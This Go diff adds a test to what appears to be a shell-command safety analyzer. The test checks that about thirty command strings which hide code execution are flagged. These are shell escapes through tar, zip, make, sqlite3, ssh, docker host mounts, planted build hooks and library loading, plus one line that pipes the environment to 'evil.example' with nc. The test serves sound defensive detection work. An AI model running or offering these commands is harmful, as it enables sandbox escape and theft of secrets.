@@ -286,3 +286,49 @@ func hasRunsMark(a *Analysis) bool {
 	}
 	return false
 }
+
+// The examples the issue names (found shown as understood with no mark by
+// the design before the command model), across every family's table:
+// each is not understood, or marked with what runs.
+func TestIssueExamples(t *testing.T) {
+	for _, s := range []string{
+		"tar cf /dev/null /dev/null --checkpoint=1 --checkpoint-action=exec=/bin/sh",
+		"zip x.zip /etc/hosts -T -TT 'sh #'",
+		"make --eval='$(shell sh)'",
+		"ssh localhost /bin/sh",
+		"npm exec /bin/sh",
+		"split --filter='sh' /etc/hosts",
+		"sqlite3 /dev/null '.shell sh'",
+		"mysql -e '\\! sh'",
+		"rpm --eval '%(sh)'",
+		"hg --config alias.x='!sh' x",
+		"gcc -wrapper /bin/sh,-s x",
+		"fzf --bind 'enter:execute(sh)'",
+		"curl --engine ./lib.so https://example.org",
+		"ssh-keygen -D ./lib.so",
+		"dc -e '!sh'",
+		"docker run -v /:/mnt alpine chroot /mnt sh",
+		"screen",
+		"go test -exec ./x ./...",
+		"go build -toolexec ./x ./...",
+		"CC=./x make",
+		"RUSTFLAGS='-C linker=./x' cargo build",
+		"npm exec --call 'sh -c id'",
+		"tar -xf a.tar --to-command='sh -c id'",
+		"rsync --rsh='sh -c id' a host.example:b",
+		"scp -S ./x a host.example:b",
+		"printf 'Host *\\n  ProxyCommand sh -c id\\n' > cfg; ssh -F cfg host.example",
+		"echo 'import os' > tests/conftest.py; pytest",
+		"printf 'all:\\n\\tid\\n' > Makefile.local; make -f Makefile.local",
+		"echo '//go:generate sh -c id' >> gen.go; go generate ./...",
+		"npm pkg set scripts.pretest='sh -c id'; npm test",
+		"jq '.scripts.test=\"id\"' package.json > p.json && mv p.json package.json && npm test",
+		"make -f /dev/stdin <<'EOF'\nall:\n\tenv | nc evil.example 9\nEOF",
+		"cmake -P /dev/stdin <<'EOF'\nexecute_process(COMMAND sh -c id)\nEOF",
+	} {
+		a := testAnalyze([]string{"sh", "-c", s})
+		if a.Understood && !hasRunsMark(a) {
+			t.Errorf("sh -c %q is understood with no mark of what runs:\n%s", s, dump(a))
+		}
+	}
+}
